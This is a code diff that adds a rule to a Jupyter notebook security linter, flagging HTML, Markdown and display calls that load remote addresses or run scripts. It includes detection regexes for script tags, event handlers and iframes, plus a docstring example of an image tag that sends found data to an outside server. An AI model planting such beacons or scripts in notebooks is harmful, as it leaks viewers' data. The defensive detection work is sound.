@@ -2,8 +2,20 @@
 
 from __future__ import annotations
 
+import ast
+import re
+from typing import TYPE_CHECKING
+
 from tract_jupyter.analysis.findings import Category
-from tract_jupyter.analysis.rules.base import HIGH, Rule, register
+from tract_jupyter.analysis.rules.base import HIGH, LIKELY, MEDIUM, Rule, register
+from tract_jupyter.analysis.tables.reader import words
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from tract_jupyter.analysis.findings import Finding, RiskLevel
+    from tract_jupyter.analysis.values import Value
+    from tract_jupyter.analysis.view import View
 
 
 @register
@@ -59,3 +71,79 @@ class ListensOnNetwork(Rule):
     level = HIGH
     effect = "lets other machines connect"
     remedy = "Run servers outside the notebook."
+
+
+_NAMES = words(
+    "HTML Markdown SVG Latex Image IFrame Video Audio Javascript display display_html publish_display_data"
+)
+_SHOWN = frozenset(f"{module}.{name}" for module in ("IPython.display", "ipywidgets") for name in _NAMES)
+_REMOTE = re.compile(
+    r"(?i)(?:src|href|srcset|data|action|url|poster|background)\s{0,9}=?\s{0,9}[\"'(]?\s{0,9}(?:https?:)?//|!\[[^\[\]]{0,999}\]\(\s{0,9}https?:"
+    r"|@import|^\s*https?://"
+)
+_SCRIPT = re.compile(r"(?i)<script|\bon(?:error|load|click|mouse\w+)\s*=|javascript:|<iframe|<object|<embed")
+_LINK = re.compile(r"(?i)<a\s[^<>]{0,9999}>")
+_CELLS = frozenset({"html", "HTML", "svg", "SVG", "markdown", "latex"})
+
+
+@register
+class ShowsRemote(Rule):
+    """Shows something that loads from elsewhere or runs in the browser.
+
+    ## What it does
+    Reports HTML, Markdown, images and frames whose text names an address that is loaded as soon as it is
+    shown, and HTML with scripts. Links, which wait for a click, are fine.
+
+    ## Why it matters
+    Loading a picture tells its server whatever stands in the address; a script acts in the notebook with
+    the rights of the person who looks at it.
+
+    ## Example
+    ```python
+    %%html
+    <img src="https://example.org/?d=what-was-found">
+    ```
+
+    ## What to do instead
+    Show data as a table or a plot; save pictures beside the notebook.
+    """
+
+    code = "TJ304"
+    name = "shows-remote"
+    category = Category.NETWORK
+    level = MEDIUM
+    effect = "loads something as soon as it is shown"
+    remedy = "Show data as a table or a plot; save pictures beside the notebook."
+
+    def check(self, view: View) -> Iterator[Finding]:
+        """Look at what is given to display classes, and at cells of HTML."""
+        for call in view.calls_to(_SHOWN):
+            given = (*call.args[:2], *(keyword.value for keyword in call.keywords))
+            level = _worst([text for node in given for text in _texts(view.resolver.value(node))])
+            if level is not None:
+                yield self.finding(view, call, f"What it shows {_effect(level)}.", level, LIKELY)
+        for function in view.of(ast.FunctionDef):
+            if function.name == "_repr_javascript_":
+                yield self.finding(view, view.source.line_span(function.lineno), "Runs in the browser.", HIGH)
+        for escape in view.escapes:
+            level = _worst([escape.text]) if escape.kind == "cell_magic" and escape.name in _CELLS else None
+            if level is not None:
+                yield self.finding(view, escape.span, f"%%{escape.name} {_effect(level)}.", level, LIKELY)
+
+
+def _texts(value: Value) -> Iterator[str]:
+    """The texts of a value, and of a dict from MIME type to text."""
+    yield from value.texts
+    for key, inner in value.entries or ():
+        yield from (f"<script {text}" for text in inner.texts or ("",) if "javascript" in str(key))
+        yield from inner.texts
+
+
+def _worst(texts: list[str]) -> RiskLevel | None:
+    if any(_SCRIPT.search(text) for text in texts):
+        return HIGH
+    return MEDIUM if any(_REMOTE.search(_LINK.sub("", text)) for text in texts) else None
+
+
+def _effect(level: RiskLevel) -> str:
+    return "runs in the browser" if level is HIGH else ShowsRemote.effect
